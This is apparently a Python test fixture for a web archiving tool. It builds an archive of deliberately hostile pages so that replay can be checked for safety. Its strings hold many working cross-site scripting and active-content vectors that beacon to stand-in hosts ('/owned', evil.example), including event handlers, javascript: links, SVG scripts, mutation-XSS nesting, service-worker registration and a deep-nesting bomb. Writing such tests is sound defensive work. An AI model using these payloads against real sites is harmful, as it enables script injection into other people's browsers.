"""An archive of pages that were made to do harm to whoever looks at them: everything that acts, on one page and in files beside it.

Contract: ``hostile_archive(folder)`` keeps them and yields the settings.  Whatever comes to life asks for an address with ``owned`` in it,
on the machine that shows the page, or for one of ``evil.example``; a harmless sentence and a link stand between.
"""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from support.exchanges import STARTED, page
from support.smallarchive import document

from archive.records import Member, Seed, Story
from archive.settings import Settings
from archive.stories import save_seeds, save_story
from archive.vault import open_archive

SITE = "http://evil.example"
HARMLESS = "The ferry leaves at noon."
TITLE = "<script>fetch('/owned?title')</script><img src=x onerror=fetch('/owned?title')>"
PAGE = """<!doctype html><html><head><base href="http://evil.example/base/"><title>x</title>
<meta http-equiv="refresh" content="0;url=/owned?refresh"><meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="/owned.css"><link rel="preload" as="image" href="/owned?preload"><link rel="prefetch" href="/owned?prefetch">
<style>@import "/owned?import"; body { background: url(/owned?background) }
@font-face { font-family: x; src: url(/owned?font) } p { font-family: x }</style>
<script>fetch('/owned?script');
navigator.serviceWorker && navigator.serviceWorker.register('/owned-worker.js'); top.location = '/owned?top'</script>
<script type="module">import '/owned-module.js'</script></head>
<body onload="fetch('/owned?onload')" background="/owned?body" style="background: url(/owned?style)">
<p onclick="fetch('/owned?click')" onmouseover="fetch('/owned?over')">%s</p>
<img src="/owned-picture.png" srcset="/owned-large.png 2x" onerror="fetch('/owned?error')" alt="A ferry">
<img src="pic.svg" alt="A drawing"><img src="data:image/svg+xml,<svg onload=fetch('/owned?data')>" alt="Data">
<svg><script>fetch('/owned?svg')</script><use href="/owned.svg#x"/>
<image href="/owned?image"/><animate onbegin="fetch('/owned?begin')" dur="1s"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('/owned?math')"></style></mglyph></table></mtext></math>
<iframe src="/owned?frame" srcdoc="<script>fetch('/owned?srcdoc')</script>"></iframe><frameset><frame src="/owned?frameset"></frameset>
<object data="/owned?object"></object><embed src="/owned?embed"><applet code="/owned?applet"></applet><portal src="/owned?portal"></portal>
<video src="/owned?video" poster="/owned?poster" autoplay></video><audio src="/owned?audio" autoplay></audio>
<input autofocus onfocus="fetch('/owned?focus')">
<form action="/owned?form" method="post"><input name="a" value="b"><button id="send">Send</button></form>
<a href="javascript:fetch('/owned?javascript')" id="bad">bad</a> <a href="/other" id="good" ping="/owned?ping" target="_top">good</a>
<template><script>fetch('/owned?template')</script></template><noscript><img src="/owned?noscript"><style>*{color:red}</style></noscript>
<textarea></textarea><xmp><script>fetch('/owned?xmp')</script></xmp><plaintext><script>fetch('/owned?plaintext')</script>
""".replace("%s", HARMLESS)
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('/owned?svgfile')">
<script>fetch('/owned?svgscript')</script>
<circle r="4" cx="4" cy="4"/></svg>"""
FILES = {
    f"{SITE}/page": (PAGE, b"text/html"),
    f"{SITE}/other": (f"<p>{HARMLESS} <a href='http://nobody.example/'>away</a></p>", b"text/html"),
    f"{SITE}/base/pic.svg": (SVG, b"image/svg+xml"),
    f"{SITE}/drawing.svg": (SVG, b"image/svg+xml"),
    f"{SITE}/code.js": ("fetch('/owned?js')", b"text/javascript"),
    f"{SITE}/words.txt": (PAGE, b"text/plain"),
    f"{SITE}/feed": (
        f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>fetch('/owned?xml')</x:script>{PAGE}",
        b"application/xml",
    ),
    f"{SITE}/odd": (PAGE, b"text/html+evil"),
    f"{SITE}/deep": ("<div>" * 300_000, b"text/html"),
}


@contextmanager
def hostile_archive(folder: Path) -> Iterator[Settings]:
    """The archive; its one story is called ``evil``."""
    told = Settings(store=str(folder / "archive"), contact="tests@copytrail.example")
    with open_archive(told) as archive:
        deposit = archive.deposit(clock=lambda: STARTED, info={"software": "copytrail/test"})
        for url, (text, kind) in FILES.items():
            deposit.keep(page(text.encode(), b"Content-Type: " + kind, b"Set-Cookie: owned=1", b"Refresh: 0;url=/owned?header", url=url))
        deposit.seal()
        (capture,) = archive.catalogue.captures_of(f"{SITE}/page")
        archive.catalogue.put_documents([document(capture, f"{HARMLESS}\n{TITLE}", TITLE, TITLE)])
        key = save_seeds(archive, "evil", [Seed(id="one", kind="text", source="one.txt", text=TITLE)], STARTED)
        members = (Member(url=f"{SITE}/page", why=TITLE, since=STARTED),)
        story = Story(slug="evil", version=1, created=STARTED, title=TITLE, seeds=(key,), members=members)
        save_story(archive, story, lambda newest: newest, STARTED)
    yield told
